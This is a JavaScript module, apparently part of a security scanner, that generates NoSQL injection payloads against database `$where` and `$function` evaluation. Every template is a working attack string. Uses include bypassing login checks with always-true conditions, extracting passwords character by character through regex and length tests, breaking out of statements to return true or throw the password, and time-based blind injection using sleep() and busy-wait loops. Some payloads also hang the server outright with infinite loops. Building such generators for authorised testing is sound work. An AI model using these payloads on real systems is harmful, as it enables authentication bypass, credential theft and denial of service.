import { nosqlGenerator as generator } from '../nosql-generator.js';

const JS = {
  truth: [
    "'1'=='1'",
    "'a'=='a",
    '1==1',
    'true',
    '{digit:n}=={digit:n}',
    '!0',
    'this.name',
    'this.password.length>{digit}',
  ],
  wait: [
    'sleep(5000)',
    'sleep({digit}000)',
    '(function(){var d=new Date();do{var c=new Date()}while(c-d<{digit}000);return true})()',
    'while(true){}',
    'for(;;);',
  ],
};

/** JavaScript that the database runs over documents: `$where`, and texts that break out of one. */
export const WHERE_GENERATORS = [
  generator('where-operator', {
    body: {
      start: [
        '{"$where":"{js}"}',
        '{"{user}":"admin","$where":"{js}"}',
        '{"$where":"function(){return {js}}"}',
        '{"$or":[{"$where":"{js}"},{}]}',
        '{"$expr":{"$function":{"body":"function(){return {js}}","args":[],"lang":"js"}}}',
      ],
      js: [
        'true',
        '1==1',
        'this.password.length>{digit}',
        "this.password[0]=='{letter}'",
        'this.name',
        'sleep({digit}000)||true',
        "this.role=='admin'",
        "Object.keys(this)[0].match('^_id')",
        'this.password.match(/^{letter}/)',
        "'a'=='a'",
      ],
    },
    value: { start: ['{"$where":"{js}"}'], js: ['1==1', 'true', 'this.password.length>{digit}', 'sleep({digit}00)'] },
  }),
  generator('where-boolean', {
    string: {
      start: [
        "{word}' || {truth} || 'a'=='b",
        "' || '1'=='1",
        "' || {truth}//",
        "admin' && {truth}//",
        "' || 1==1//",
        "{word}' || 'a'=='a' || 'b'=='c",
        "admin' || '{letter:l}'=='{letter:l}",
        "' || true || '",
        "' || this.password.match(/^{letter}.*/)//",
        "'||this.role=='admin'||'a'=='b",
        "' && this.password.length>{digit} && 'a'=='a",
        "'==''||'",
        "' != '{word}",
        "'||1||'",
        "' || {truth}\u0000",
        "\\' || 1==1//",
        "{word}'||/./.test(this.password)||'",
      ],
      truth: JS.truth.filter((text) => !text.endsWith("'a")),
    },
    numeric: {
      start: [
        '{digit} || true',
        '{digit}||1==1',
        '0 || this.password.length>{digit}',
        '{digit} || {truth}',
        '1 && {truth}',
        '0||this.password.charAt({digit})=={quote:q}{letter}{quote:q}',
        '{digit}//',
        '{digit} || 1)//',
      ].slice(0, 6),
      truth: JS.truth.filter((text) => !text.endsWith("'a")),
    },
  }),
  generator('where-statements', {
    string: {
      start: [
        "';return true;//",
        "';return {truth};var a='",
        "'; return this.password.match(/.*/); var x='",
        "{word}';return(true);'",
        "';return this.role=='admin';//",
        "'});return true;//",
        "'; return 1==1; var foo = 'bar",
        "';var u=this;return u.password.length>{digit};//",
        "';if(this.password[0]=='{letter}')return true;//",
        "';throw this.password;//",
        "';return Object.keys(this).length>{digit};//",
        "';return '{letter:l}'=='{letter:l}",
      ],
      truth: ['true', '1==1', "'a'=='a'", '!0', '{digit:n}=={digit:n}'],
    },
    numeric: {
      start: [
        '{digit};return true',
        '0;return 1==1;//',
        '{digit};return this.password.length>{digit}',
        '1;throw this.password',
        '{digit};var a=1;return a',
        '0;if(this.name)return true',
      ],
    },
  }),
  generator('where-waiting', {
    string: {
      start: [
        "';{wait};//",
        "' || {call} || 'a'=='b",
        "';{wait};return true;var x='",
        "'; sleep({digit}000); var a='",
        "'+sleep({digit}000)+'",
        "' && {call} && '1'=='1",
      ],
      wait: JS.wait,
      call: JS.wait.slice(0, 3),
    },
    numeric: {
      start: ['{digit};{wait}', '{digit} || {call}', '0;{wait};return true', '{digit}+{call}'],
      wait: JS.wait,
      call: JS.wait.slice(0, 3),
    },
  }),
];
